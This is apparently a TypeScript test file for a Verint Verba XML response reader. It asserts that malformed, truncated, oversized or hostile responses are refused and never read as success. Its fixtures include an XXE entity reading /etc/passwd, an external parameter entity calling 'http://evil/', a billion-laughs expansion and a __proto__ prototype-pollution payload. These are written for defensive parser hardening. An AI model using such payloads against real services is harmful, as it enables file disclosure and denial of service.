import { readVerbaXml, verbaResponse } from '../../../signing/verbaXml';
import { read } from '../../../nodes/VerintVerba/shared/read';

const response = (text: string) => verbaResponse(readVerbaXml(text));
const ok = '<VerbaApi><Response code="0" type="DeleteCall"/></VerbaApi>';

/** What a server, a proxy or an attacker could send in place of an answer. Sizes as in the sheet. */
const REFUSED: Array<[string, string, RegExp]> = [
	['nothing at all', '', /not XML/],
	['white space', ' \n\t ', /not XML/],
	['JSON', '{"code":"0"}', /not XML/],
	['a number', '0', /not XML/],
	[
		'an HTML login page',
		'<!DOCTYPE html><html><body><form action="/login"/></body></html>',
		/page/,
	],
	['an XHTML login page', '<?xml version="1.0"?><html xmlns="q"><body/></html>', /web page/],
	['a page in capitals', '<HTML><BODY>Sign in</BODY></HTML>', /web page/],
	['a document type', `<!DOCTYPE VerbaApi>${ok}`, /document type/],
	['a document type behind a comment', `<!-- x --><!doctype VerbaApi SYSTEM "x">${ok}`, /type/],
	['entities of its own', '<!DOCTYPE a [<!ENTITY x "0">]><Response code="&x;"/>', /type/],
	[
		'a file of the server',
		'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
		/type/,
	],
	[
		'a billion laughs',
		`<!DOCTYPE l [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, at) => `<!ENTITY b${at} "${'&a;'.repeat(10)}">`).join('')}]><l>&b8;</l>`,
		/document type/,
	],
	[
		'an external parameter entity',
		'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil/">%p;]><a/>',
		/type/,
	],
	['UTF-16 read as UTF-8', [...ok].join('\u0000'), /UTF-8/],
	[
		'another encoding with letters that were lost',
		'<?xml version="1.0" encoding="ISO-8859-1"?><a>J\uFFFDrg</a>',
		/in ISO-8859-1, not in UTF-8/,
	],
	['an answer cut short', ok.slice(0, -5), /well-formed/],
	['an answer cut short in an attribute', ok.slice(0, 24), /well-formed/],
	['a CDATA section that never ends', '<a><![CDATA[<Response code="0"/></a>', /well-formed/],
	['a comment that never ends', '<a><!-- <Response code="0"/></a>', /well-formed/],
	['crossed elements', '<a><b></a></b>', /well-formed/],
	['a doubled code', '<Response code="0" code="2"/>', /well-formed/],
	['two roots', '<Response code="2"/><Response code="0"/>', /well-formed/],
	['a success behind the root', `<VerbaApi/>${ok}`, /well-formed/],
	['text behind the root', `${ok}junk`, /well-formed/],
	['text before the root', `junk${ok}`, /not XML/],
	['65 levels', `${'<a>'.repeat(65)}${'</a>'.repeat(65)}`, /well-formed/],
	['100,000 levels', '<a>'.repeat(100_000) + '</a>'.repeat(100_000), /well-formed/],
	['more than 16 MiB', `<a>${'x'.repeat(16 * 1024 * 1024)}</a>`, /16 MiB/],
	['16 MB of tags', '<a>'.repeat(5_000_000), /too many elements/],
	['16 MB of open brackets', '<'.repeat(16_000_000), /tag that is too long/],
	['16 MB of white space', `${' '.repeat(16_000_000)}x`, /not XML/],
];

describe('X7 verba: the torture set is refused, and nothing is claimed', () => {
	test.each(REFUSED)('%s', (_name, text, reason) => {
		expect(() => readVerbaXml(text)).toThrow(reason);
		// Under every status, and whatever the answer holds further on.
		for (const status of [200, 400, 404, 500]) {
			expect(read({ status, headers: {}, text })).toMatchObject({ ok: false, code: '' });
		}
	});

	test('no text at all', () => {
		for (const value of [undefined, null, 0, Buffer.from(ok), { VerbaApi: ok }]) {
			expect(() => readVerbaXml(value)).toThrow(/not XML/);
		}
	});

	test('a success that is cut at any place claims nothing', () => {
		const text = `<?xml version="1.0" encoding="UTF-8"?>\n${ok}`;
		expect(read({ status: 200, headers: {}, text }).ok).toBe(true);
		for (let length = 0; length < text.length; length += 1) {
			expect(read({ status: 200, headers: {}, text: text.slice(0, length) }).ok).toBe(false);
		}
	});
});

describe('what is at the border is still read', () => {
	test('64 levels, and a text of nearly 16 MiB', () => {
		expect(() => readVerbaXml(`${'<a>'.repeat(64)}${'</a>'.repeat(64)}`)).not.toThrow();
		const long = 'x'.repeat(16 * 1024 * 1024 - 7);
		expect(readVerbaXml(`<a>${long}</a>`)).toEqual({ a: long });
	});

	test('a byte order mark, another encoding without lost letters, a declaration', () => {
		expect(readVerbaXml('\uFEFF<?xml version="1.0"?><a>1</a>')).toEqual({ a: '1' });
		expect(readVerbaXml('<?xml version="1.0" encoding="windows-1252"?><a>1</a>')).toEqual({
			a: '1',
		});
		expect(readVerbaXml('<?xml version="1.0" encoding="utf-8"?>\r\n<a>J\uFFFDrg</a>\r\n')).toEqual({
			a: 'J\uFFFDrg',
		});
	});

	test('numeric references and the five entities, once; others stay as they are', () => {
		expect(
			readVerbaXml('<a>J&#246;rg &#x592A;&#37070; &amp;lt; &nbsp; &#0; &#x110000;</a>'),
		).toEqual({
			a: 'Jörg 太郎 &lt; &nbsp; &#0; &#x110000;',
		});
		expect(readVerbaXml('<a b="&quot;&#39;&apos;&gt;"/>')).toEqual({ a: { b: "\"''>" } });
		expect(readVerbaXml('<a><![CDATA[ <b>&amp;&#65;</b> ]]></a>')).toEqual({
			a: '<b>&amp;&#65;</b>',
		});
	});

	test('names that reach into JavaScript are dropped, and nothing else is', () => {
		const text =
			'<a constructor="1" __proto__="2" x="3"><__proto__><polluted>yes</polluted></__proto__><constructor>4</constructor><prototype>5</prototype><b>6</b></a>';
		const value = readVerbaXml(text);
		expect(Object.getOwnPropertyNames(value.a).sort()).toEqual(['b', 'x']);
		expect(({} as Record<string, unknown>).polluted).toBeUndefined();
	});
});

describe('what the Response says', () => {
	test('a child element wins over an attribute, but not over the code of a Response', () => {
		expect(readVerbaXml('<verbacdr id="1"><id>2</id></verbacdr>')).toEqual({
			verbacdr: { id: '2' },
		});
		expect(response('<VerbaApi><Response code="2"><code>0</code></Response></VerbaApi>').code).toBe(
			'2',
		);
	});

	test.each(['" 0"', '"0 "', '"00"', '"0.0"', '""', '"OK"'])(
		'a code of %s is no success',
		(code) => {
			const text = `<VerbaApi><Response code=${code}/></VerbaApi>`;
			expect(read({ status: 200, headers: {}, text })).toMatchObject({ ok: false });
		},
	);

	test('of several codes the refusal counts', () => {
		expect(response('<V><Response code="0"/><Response code="-50"/></V>').code).toBe('-50');
	});

	test('what stands in a conversation is no verdict', () => {
		const row =
			'<verbacdr><Response code="0" token="t"/><ErrorMessage>not found</ErrorMessage></verbacdr>';
		expect(response(`<V>${row}</V>`)).toEqual({ code: undefined, message: '', token: undefined });
		expect(response(`<V><Response code="17"/>${row}</V>`)).toMatchObject({
			code: '17',
			message: '',
		});
	});

	test('words that stand elsewhere in a refusal are found, and cut at 500 characters', () => {
		expect(response('<V><Response code="9">Held.</Response></V>').message).toBe('Held.');
		expect(response('<V><Response code="9"><Text>Held.</Text></Response></V>').message).toBe(
			'Held.',
		);
		const long = 'x'.repeat(2_000);
		expect(
			response(`<V><Response code="9"><ErrorMessage>${long}</ErrorMessage></Response></V>`).message,
		).toHaveLength(500);
	});
});

test('a tag of megabytes is refused before the parser works on it', () => {
	const attributes = Array.from({ length: 50_000 }, (_, at) => `x${at}="1"`).join(' ');
	for (const inside of [attributes, '='.repeat(2_000_000), 'a=" '.repeat(500_000)]) {
		expect(() => readVerbaXml(`<r ${inside}/>`)).toThrow(/tag that is too long/);
	}
	const long = "a < b, it's <b ".repeat(10_000);
	expect(readVerbaXml(`<r><t><![CDATA[${long}]]></t><!-- ${long} --></r>`)).toEqual({
		r: { t: long.trim() },
	});
	expect(readVerbaXml(`<r a=">'>" b='">'><t/></r>`)).toEqual({ r: { a: ">'>", b: '">', t: '' } });
});
